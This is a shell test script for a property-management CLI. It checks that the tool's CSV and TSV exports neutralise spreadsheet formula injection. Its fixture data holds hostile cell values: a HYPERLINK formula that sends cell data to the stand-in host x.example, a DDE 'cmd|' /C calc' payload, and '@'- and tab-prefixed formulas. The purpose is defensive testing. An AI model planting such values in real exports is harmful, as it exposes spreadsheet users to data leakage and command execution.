#!/bin/sh
# CSV and TSV that pm writes are safe to open in a spreadsheet: a text
# cell beginning with =, +, -, @, a tab or a CR is neutralised with a
# leading ' (OWASP), cells are quoted as RFC 4180 says, and numbers pm
# writes (negative fen included) stay numbers.
. "$PM_TOP/tests/cli/lib.sh"
PM_NOW=2026-12-01T09:00:00+08:00
export PM_NOW

run pm init
feed '{"code":"1-1-101","area":"80","status":"occupied"}\n{"code":"1-1-B01","area":"12","use":"parking","floor":-1}\n' pm unit import
cat >people.jsonl <<'J'
{"code":"P1","name":"=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"}
{"code":"P2","name":"+1+cmd|' /C calc'!A0"}
{"code":"P3","name":"-2+3"}
{"code":"P4","name":"@SUM(1,2)"}
{"code":"P5","name":"\t=1"}
{"code":"P6","name":"\r=1"}
{"code":"P7","name":"张伟 = 1"}
J
run pm person import people.jsonl
run pm person list --format csv
expect_eq "$(grep -v '^P6' "$T/out" | sed -n '2,7p' | cut -d, -f1-2)" "P1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1
P2,'+1+cmd|' /C calc'!A0
P3,'-2+3
P4,\"'@SUM(1
P5,'	=1
P7,张伟 = 1" "each formula-like name begins with ', quotes doubled, a cell with a comma quoted"
expect_out "^P6,\"'$(printf '\r')=1\"," "a cell with a CR quoted too"
expect_out '^P1,"'"'"'=HYPERLINK\(""http://x.example/\?""&A1,""点击""\)",' "the quoted cell whole"
run pm person list --format tsv
expect_out "^P5	' =1	" "TSV neutralises too, its tab a space"
expect_out "^P6	' =1	" "and its CR"

run pm unit list --format csv
expect_out '^1-1-B01,1,1,B01,-1,' "a negative number pm writes stays a number"

cat >pm.yaml <<'Y'
effective: 2026-01-01
community:
  name: x
fees:
  - name: garbage
    label: "=1+2"
    type: fixed
    amounts: {residential: 15}
Y
run pm config apply pm.yaml
pm-bill run -q --period 2026-11 >/dev/null
pm-bill issue -q --period 2026-11 >/dev/null
run pm-bill adjust B-2026-11-1-1-101 --amount -10 --reason '@once' --format csv
expect_eq "$(sed -n 2p "$T/out")" "B-2026-11-1-1-101,-1000,'@once,0,0" \
	"money: -1000 fen is a number, the typed reason is text (nothing moved to or from the prepaid balance)"
run pm-bill export --period 2026-11
expect_out "^B-2026-11-1-1-101,1-1-101,1,garbage,'=1\+2,1,15.00"$(printf '\r')'$' "pm-bill export writes through the same writer"
done_testing
